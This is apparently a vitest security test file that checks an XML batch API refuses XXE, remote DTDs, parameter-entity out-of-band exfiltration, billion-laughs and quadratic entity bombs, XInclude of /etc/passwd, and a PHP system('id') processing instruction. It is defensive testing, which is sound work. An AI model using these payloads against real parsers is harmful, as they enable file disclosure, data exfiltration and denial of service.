import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type CallResult, type TestServer } from '../support/server.js';
import { expectRefused, recordCount, send, startBystander, XML_DECLARATION, type Bystander } from './dialects.js';

/**
 * Attack catalogue, XML: external entities, parameter entities, entity bombs,
 * external DTDs, processing instructions and friends against the XML object
 * batch, over real HTTP. Each is refused with 400 before anything runs, fast,
 * no file is read and no connection leaves the server (docs/SECURITY.md).
 */

let s: TestServer;
let bystander: Bystander;
beforeAll(async () => {
  [s, bystander] = await Promise.all([startTestServer(), startBystander()]);
});
afterAll(async () => {
  await Promise.all([s.close(), bystander.close()]);
});

const CREATE = '<create><object><attributes><a d="title" vt="16"><text>canary</text></a></attributes></object></create>';
const REQUEST = (inner = CREATE) => `<request identifier="attack"><operations>${inner}</operations></request>`;

/** Sends `text`; expects 400 `code` in the XML error form within 1 s, nothing written, no connection to the bystander, nothing of /etc/passwd. */
async function expectXmlRefused(text: string, code = 'invalid_xml'): Promise<CallResult> {
  const before = await recordCount(s);
  const seen = bystander.connections();
  const started = performance.now();
  const r = await send(s, { path: '/api/object/batch', contentType: 'application/xml', body: text });
  expect(performance.now() - started).toBeLessThan(1000);
  expectRefused(r, 400, code);
  expect(r.text).toContain('<response status="error"');
  expect(r.text).not.toMatch(/root:|daemon:|nologin/);
  expect(await recordCount(s)).toBe(before);
  expect(bystander.connections()).toBe(seen);
  return r;
}

describe('XML object batch attacks', () => {
  const host = () => `127.0.0.1:${bystander.port}`;

  it('XXE: an external entity reading /etc/passwd: 400 invalid_xml, nothing of the file in the answer', async () => {
    await expectXmlRefused(`${XML_DECLARATION}<!DOCTYPE request [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${REQUEST(`<create><object><attributes><a d="t" vt="16"><text>&xxe;</text></a></attributes></object></create>`)}`);
  });

  it('XXE over HTTP: an external entity at another port: 400 invalid_xml, no connection', async () => {
    await expectXmlRefused(`${XML_DECLARATION}<!DOCTYPE request [<!ENTITY xxe SYSTEM "http://${host()}/x">]>${REQUEST(`<read ref="&xxe;"/>`)}`);
  });

  it('parameter entities (%remote; fetching a DTD, the out-of-band exfiltration form): 400 invalid_xml, no connection', async () => {
    await expectXmlRefused(
      `${XML_DECLARATION}<!DOCTYPE request [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "http://${host()}/evil.dtd">%remote;%send;]>${REQUEST()}`,
    );
  });

  it('an external DTD (DOCTYPE SYSTEM / PUBLIC): 400 invalid_xml, no connection', async () => {
    await expectXmlRefused(`${XML_DECLARATION}<!DOCTYPE request SYSTEM "http://${host()}/request.dtd">${REQUEST()}`);
    await expectXmlRefused(`${XML_DECLARATION}<!DOCTYPE request PUBLIC "-//X//Y" "http://${host()}/request.dtd">${REQUEST()}`);
  });

  it('billion laughs (ten nested entities of ten references): 400 invalid_xml, fast', async () => {
    let dtd = '<!ENTITY lol0 "lol">';
    for (let i = 1; i < 10; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    await expectXmlRefused(`${XML_DECLARATION}<!DOCTYPE request [${dtd}]>${REQUEST(`<read ref="&lol9;"/>`)}`);
  });

  it('quadratic blowup (one 100 KB entity referenced 50,000 times): 400 invalid_xml, fast', async () => {
    const refs = '&a;'.repeat(50_000);
    await expectXmlRefused(`${XML_DECLARATION}<!DOCTYPE request [<!ENTITY a "${'x'.repeat(100_000)}">]>${REQUEST(`<create><object><attributes><a d="t" vt="16"><text>${refs}</text></a></attributes></object></create>`)}`);
  });

  it('an entity reference with no DTD at all (&a; 50,000 times): 400 invalid_xml', async () => {
    await expectXmlRefused(`${XML_DECLARATION}${REQUEST(`<create><object><attributes><a d="t" vt="16"><text>${'&a;'.repeat(50_000)}</text></a></attributes></object></create>`)}`);
  });

  it('a DTD declaration hidden after the root (or in a comment-looking spot): 400 invalid_xml', async () => {
    await expectXmlRefused(`${XML_DECLARATION}${REQUEST()}<!DOCTYPE x [<!ENTITY e "y">]>`);
    await expectXmlRefused(`${XML_DECLARATION}<!--x--><!ENTITY e SYSTEM "file:///etc/passwd">${REQUEST()}`);
  });

  it('processing instructions (xml-stylesheet pointing at another host, any other target): 400 invalid_xml, no connection', async () => {
    await expectXmlRefused(`${XML_DECLARATION}<?xml-stylesheet type="text/xsl" href="http://${host()}/x.xsl"?>${REQUEST()}`);
    await expectXmlRefused(`${XML_DECLARATION}${REQUEST(`<?php system('id'); ?>${CREATE}`)}`);
  });

  it('XInclude (xi:include of /etc/passwd): an element the batch does not know, 400 bad_request, no file read', async () => {
    await expectXmlRefused(
      `${XML_DECLARATION}<request identifier="x" xmlns:xi="http://www.w3.org/2001/XInclude"><operations><xi:include href="file:///etc/passwd" parse="text"/></operations></request>`,
      'bad_request',
    );
  });

  it('another encoding declared (UTF-7, UTF-16), or no declaration: 400 invalid_xml', async () => {
    await expectXmlRefused(`<?xml version="1.0" encoding="UTF-7"?>${REQUEST()}`);
    await expectXmlRefused(`<?xml version="1.0" encoding="UTF-16"?>${REQUEST()}`);
    await expectXmlRefused(REQUEST());
  });

  it('a character reference to NUL or a lone surrogate: 400 invalid_xml', async () => {
    await expectXmlRefused(`${XML_DECLARATION}${REQUEST('<read ref="a&#0;b"/>')}`);
    await expectXmlRefused(`${XML_DECLARATION}${REQUEST('<read ref="a&#xD800;b"/>')}`);
  });

  it('500,000 tiny operations in one document (inside the byte limit): 413 batch_too_large after the 65th, quickly', async () => {
    const body = `${XML_DECLARATION}${REQUEST('<read ref="a"/>'.repeat(500_000))}`;
    expect(body.length).toBeLessThan(10 * 2 ** 20);
    const started = performance.now();
    const r = await send(s, { path: '/api/object/batch', contentType: 'application/xml', body });
    expect(performance.now() - started).toBeLessThan(2000);
    expectRefused(r, 413, 'batch_too_large');
    expect(r.text).toContain('at most 64');
  });

  it('the server still answers, and a well-formed batch still runs, after all of the above', async () => {
    const r = await send(s, { path: '/api/object/batch', contentType: 'application/xml', body: `${XML_DECLARATION}${REQUEST()}` });
    expect(r.status, r.text).toBe(200);
    expect(r.text).toContain('<create index="0"');
  });
});
